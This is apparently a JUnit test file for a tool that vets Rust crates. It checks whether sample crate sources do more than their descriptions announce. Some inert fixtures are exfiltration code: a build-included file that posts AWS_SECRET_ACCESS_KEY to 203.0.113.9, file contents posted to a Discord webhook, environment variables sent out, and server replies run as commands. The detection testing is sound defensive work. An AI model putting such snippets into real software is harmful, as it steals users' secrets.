package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Crates that do what their page announces, each next to crates that do more. All sources are
/// inert and never compiled.
final class AnnouncedWorkTest {
  private static final String MACRO = "[lib]\nproc-macro = true\n";

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        // Programs that only report properties of the desktop or the project.
        "``|`fn f() { std::process::Command::new(\"gsettings\").args([\"get\", k]).output(); }`",
        "``|`fn ask(p: &str) -> O { std::process::Command::new(p).output() } fn f() {"
            + " ask(\"scutil\"); ask(\"reg\"); }`",
        "``|`fn f() { std::process::Command::new(\"git\").args([\"blame\","
            + " \"--porcelain\"]).output(); }`",
        "``|`fn f() { std::process::Command::new(\"paplay\").arg(file).status(); }`",
        // They change something, something else is started, or the reply is sent.
        "programs|`fn f() { std::process::Command::new(\"gsettings\").args([\"set\", k,"
            + " v]).output(); }`",
        "programs|`fn ask(p: &str) -> O { std::process::Command::new(p).output() } fn f() {"
            + " ask(\"scutil\"); ask(\"run-it\"); }`",
        "programs|`fn f(p: &str) { std::process::Command::new(p).output(); }`",
        "programs|`fn f() { std::process::Command::new(\"gsettings\").output();"
            + " std::process::Command::new(\"sh\").arg(\"-c\").status(); }`",
        "programs|`fn f() { let o = std::process::Command::new(\"uname\").output();"
            + " ureq::post(&u).send_bytes(&o.stdout); }`",
        // Names of schemas are not hosts.
        "host|`fn f() { let j = json!({ \"schema\": \"https://schemas.invalid/a.json\" });"
            + " ureq::post(&u).send_json(j); }`",
        // A host next to the variable of its service, and one next to that of another service.
        "``|`const A: S = S { host: \"https://api.acorn.invalid\", variable: \"ACORN_API_KEY\" };"
            + " fn f() { ureq::get(A.host).call(); }`",
        "host|`const A: S = S { host: \"https://api.acorn.invalid\", variable: \"BIRCH_API_KEY\" };"
            + " fn f() { ureq::get(A.host).call(); }`",
      })
  void seesWhatIsNotAnnounced(String says, String source) {
    boolean network = source.contains("ureq") && !says.equals("programs");
    CrateBuilder crate =
        crate(network ? "Widths from a server" : "Widths of text", "").file("src/lib.rs", source);

    assertThat(unstated(crate)).hasSize(says.isEmpty() ? 0 : 1).allMatch(s -> s.startsWith(says));
  }

  @ParameterizedTest
  @CsvSource({
    "$schema, 0",
    "$id, 0",
    "@context, 0",
    "url, 1",
  })
  void theNameOfASchemaIsNoHostThatIsReached(String key, int count) {
    String source =
        """
        fn f() { let j = json!({ "%s": "https://s.invalid/a.json" });
        ureq::post(&u).send_json(j); }
        """
            .formatted(key);

    assertThat(unstated(crate("Sends reports", "").file("src/lib.rs", source))).hasSize(count);
  }

  @ParameterizedTest
  @CsvSource({
    "Asks countries.invalid for the country of an address, 0",
    "Country of an address by countries.invalid, 0",
    "Country of an address, 1",
  })
  void aHostThatThePageTellsIsAnnounced(String description, int count) {
    String source = "fn f() { ureq::get(\"https://countries.invalid/a\").call(); }";

    assertThat(unstated(crate(description, "").file("src/lib.rs", source))).hasSize(count);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Spelling with hunspell|hunspell|0",
        "Spelling (`hunspell`)|hunspell|0",
        "Spelling|hunspell|1",
        "Spelling with hunspell-data|hunspell|1",
        "Spelling with zsh|zsh|1",
      })
  void aProgramThatThePageTellsIsAnnounced(String description, String program, int count) {
    String source =
        "fn f() { std::process::Command::new(\"%s\").arg(\"-a\").output(); }".formatted(program);

    assertThat(unstated(crate(description, "").file("src/lib.rs", source))).hasSize(count);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Sets up the hooks of a project|.git/hooks/pre-commit|0",
        "Colors of text|.git/hooks/pre-commit|1",
        "Sets up the hooks of a project|.git/config|1",
      })
  void hooksBelongToTheWorkOfACrateAboutHooks(String description, String path, int count) {
    String source =
        """
        fn f(r: &Path, c: &[&str]) {
        let to = r.join("%s");
        std::fs::write(&to, c.join(""));
        }
        """
            .formatted(path);

    assertThat(heavy(crate(description, "").file("src/lib.rs", source))).hasSize(count);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "0|`for url in t.lines() { ureq::get(url).call(); }`",
        "1|`for each in t.lines() { ureq::post(\"https://a.invalid/\").send_string(each); }`",
        "1|`for url in t.lines() { ureq::get(\"https://a.invalid/\").query(\"q\", url).call(); }`",
      })
  void linesThatAreAddressesGoToWhereTheySay(int count, String body) {
    String source =
        "fn f() { let h = std::env::var(\"HOME\").unwrap();\n"
            + "let t = std::fs::read_to_string(format!(\"{h}/.config/feeds.txt\")).unwrap();\n"
            + body.replace("; ", ";\n")
            + "}";

    assertThat(heavy(crate("Reads feeds of a server", "").file("src/lib.rs", source)))
        .hasSize(count);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {"demo (+https://demo.invalid/bot)|0", "https://demo.invalid/bot|1"})
  void aProgramTellsWhoItIs(String text, int count) {
    String source =
        "fn f() { let a = agent().user_agent(\"%s\");\nureq::get(&u).call(); }".formatted(text);

    assertThat(unstated(crate("Finds dead links", "").file("src/lib.rs", source))).hasSize(count);
  }

  @ParameterizedTest
  @CsvSource({
    "A todo list, 0",
    "Trash can of the desktop, 0",
    "Width of text, 1",
    "Colors of text, 1",
  })
  void filesThatACrateKeepsBelongToItsWork(String description, int count) {
    String source =
        "fn f() { let h = std::env::var(\"HOME\").unwrap();"
            + " std::fs::write(Path::new(&h).join(\"a.txt\"), t); }";

    assertThat(unstated(crate(description, "").file("src/lib.rs", source))).hasSize(count);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        // Literals in another form, and templates with digests.
        "``|String literals that are not in plain|`fn f(t: &str) -> String { t.bytes().map(|b| (b ^"
            + " 7) as char).collect() }`",
        "``|Pages pinned by integrity|`fn f(d: &[u8]) -> String {"
            + " base64::engine::general_purpose::STANDARD.encode(d) }`",
        "macro-decode|Builders for structs|`fn f(t: &str) -> String { t.bytes().map(|b| (b ^ 7) as"
            + " char).collect() }`",
        "macro-decode|String literals that are not in plain|`fn f(t: &str) { let s: String ="
            + " t.bytes().map(|b| (b ^ 7) as char).collect();"
            + " std::process::Command::new(\"cc\").status(); }`",
        "macro-decode|String literals that are not in plain|`fn f(t: &str) { let s: String ="
            + " t.bytes().map(|b| (b ^ 7) as char).collect(); std::fs::write(p, s); }`",
        "macro-decode|String literals that are not in plain|`fn f() -> TokenStream { let s: String"
            + " = D.iter().map(|b| (b ^ 7) as char).collect(); let t = include_str!(\"a.txt\");"
            + " t.parse::<TokenStream>().unwrap() }`",
        "macro-decode|String literals that are not in plain|`fn f(t: &str) { let s: String ="
            + " t.bytes().map(|b| (b ^ 7) as char).collect(); let u = \"https://a.invalid/\"; }`",
        // A server in the settings of the user gets a request, and its reply is stored.
        "``|Checks queries against a schema|`fn f() { let u ="
            + " std::env::var(\"SCHEMA_URL\").unwrap(); let t = ureq::get(&u).call().into_string();"
            + " std::fs::write(p, t); }`",
        "macro-network|Builders for structs|`fn f() { let u ="
            + " std::env::var(\"SCHEMA_URL\").unwrap(); let t = ureq::get(&u).call().into_string();"
            + " }`",
        "macro-network|Checks queries against a schema|`fn f() { let t ="
            + " ureq::get(\"https://a.invalid/\").call().into_string(); let v ="
            + " std::env::var(\"A\"); }`",
        "macro-network|Checks queries against a schema|`fn f() { let u ="
            + " std::env::var(\"SCHEMA_URL\").unwrap(); for (k, v) in std::env::vars() {"
            + " ureq::get(&u).query(&k, &v).call(); } }`",
        "macro-network|Checks queries against a schema|`fn f() { let u ="
            + " std::env::var(\"SCHEMA_URL\").unwrap(); ureq::get(&u).call(); let t ="
            + " std::env::var(\"GITHUB_TOKEN\"); }`",
        "macro-network|Checks queries against a schema|`fn f() { let u ="
            + " std::env::var(\"SCHEMA_URL\").unwrap(); let t = ureq::get(&u).call().into_string();"
            + " std::process::Command::new(t).spawn(); }`",
        "macro-writes|Checks queries against a schema|`fn f() { let u ="
            + " std::env::var(\"SCHEMA\").unwrap(); std::fs::write(p, t); }`",
      })
  void macrosDoTheWorkOfTheirPage(String code, String description, String source) {
    CrateBuilder crate =
        crate(description, MACRO)
            .file("src/lib.rs", "use proc_macro::TokenStream;\n" + source.replace("; ", ";\n"));

    assertThat(heavy(crate)).matches(all -> code.isEmpty() ? all.isEmpty() : all.contains(code));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "``|Finds secrets in files|`fn f(p: &Path) -> bool {"
            + " Regex::new(r\"https://discord\\.com/api/webhooks/\\d+/[\\w-]{50,}\").unwrap().is_match(&std::fs::read_to_string(p).unwrap())"
            + " }`",
        "drop-address|Width of text|`fn f(p: &Path) -> bool {"
            + " Regex::new(r\"https://discord\\.com/api/webhooks/\\d+/[\\w-]{50,}\").unwrap().is_match(&std::fs::read_to_string(p).unwrap())"
            + " }`",
        "drop-address|Finds secrets in files|`fn f(p: &Path) {"
            + " ureq::post(\"https://discord.com/api/webhooks/1/abc\").send_string(&std::fs::read_to_string(p).unwrap());"
            + " }`",
        "drop-address|Finds secrets in files|`fn f() {"
            + " std::process::Command::new(\"curl\").arg(\"https://discord.com/api/webhooks/1/abc\").spawn();"
            + " }`",
      })
  void scannersNameWhatTheyLookFor(String code, String description, String source) {
    CrateBuilder crate = crate(description, "").file("src/lib.rs", source);

    assertThat(heavy(crate)).matches(all -> code.isEmpty() ? all.isEmpty() : all.contains(code));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        // One of two tools applies a patch of the package.
        "``|`fn main() { let tools: [(&str, &[&str]); 2] = [(\"git\", &[\"apply\"]), (\"patch\","
            + " &[\"-p1\"])]; for (program, args) in tools {"
            + " Command::new(program).args(args).status(); } }`",
        "build-unusual-command|`fn main() { let tools: [(&str, &[&str]); 2] = [(\"git\","
            + " &[\"apply\"]), (\"agentd\", &[\"-p1\"])]; for (program, args) in tools {"
            + " Command::new(program).args(args).status(); } }`",
        // The package contains a table for machines without the generator.
        "``|`fn main() { let t = std::fs::read_to_string(\"data/a.rs\").unwrap();"
            + " std::fs::write(out.join(\"a.rs\"), t); }`",
        "build-data-as-code|`fn main() { let t = std::fs::read_to_string(\"data/a.txt\").unwrap();"
            + " std::fs::write(out.join(\"a.rs\"), t); }`",
        "build-data-as-code|`fn main() { let n = name(); let t ="
            + " std::fs::read_to_string(n).unwrap(); std::fs::write(out.join(\"a.rs\"), t); }`",
      })
  void buildsUseWhatThePackageHolds(String code, String source) {
    CrateBuilder crate =
        crate("Bindings", "")
            .file("src/lib.rs", "")
            .file("build.rs", "use std::process::Command;\n" + source.replace("; ", ";\n"));

    assertThat(heavy(crate)).matches(all -> code.isEmpty() ? all.isEmpty() : all.contains(code));
  }

  @ParameterizedTest
  @ValueSource(strings = {"data/table.rs", "templates/table.rs", "assets/gen/t.rs"})
  void sourcesThatABuildHandsOnAreCode(String path) {
    String build =
        """
        use std::{env, fs, path::Path};
        fn main() {
            let text = fs::read_to_string("%s").unwrap();
            fs::write(Path::new(&env::var("OUT_DIR").unwrap()).join("t.rs"), text).unwrap();
        }
        """
            .formatted(path);
    String hidden =
        """
        pub fn go() {
            let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap();
            ureq::post("http://203.0.113.9/c").send_string(&key);
        }
        """;
    CrateBuilder crate =
        crate("Tables", "")
            .file("src/lib.rs", "include!(concat!(env!(\"OUT_DIR\"), \"/t.rs\"));")
            .file("build.rs", build)
            .file(path, hidden);

    assertThat(heavy(crate)).contains("secret-sent");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "``|`fn files(&self, n: &str) { if self.with_secrets || !secret(n) { let name = n.trim();"
            + " ureq::put(&format!(\"{s}/{name}\")).call(); } }`",
        "secret-sent|`fn files(&self, n: &str) { let name = self.secret(n);"
            + " ureq::put(&format!(\"{s}/{name}\")).call(); }`",
        "secret-sent|`fn files(&self) { let name = !self.secret_key.is_empty() && self.go();"
            + " ureq::put(&format!(\"https://a.invalid/{name}\")).query(\"k\","
            + " &self.secret_key).call(); }`",
      })
  void questionsAboutSecretsAreNoSecrets(String code, String source) {
    CrateBuilder crate = crate("A client", "").file("src/lib.rs", source.replace("; ", ";\n"));

    assertThat(heavy(crate)).matches(all -> code.isEmpty() ? all.isEmpty() : all.contains(code));
  }

  private static CrateBuilder crate(String description, String rest) {
    String page = "description = \"" + description + "\"\n";
    return demo().manifest(InspectionFixture.MANIFEST + page + rest);
  }

  private static List<String> unstated(CrateBuilder crate) {
    return inspect(crate).signals().stream()
        .filter(signal -> signal.code() == SignalCode.UNSTATED_CAPABILITY)
        .map(Signal::excerpt)
        .toList();
  }

  private static List<String> heavy(CrateBuilder crate) {
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight().compareTo(SignalWeight.REVIEW) >= 0)
        .map(signal -> signal.code().toString())
        .distinct()
        .toList();
  }
}
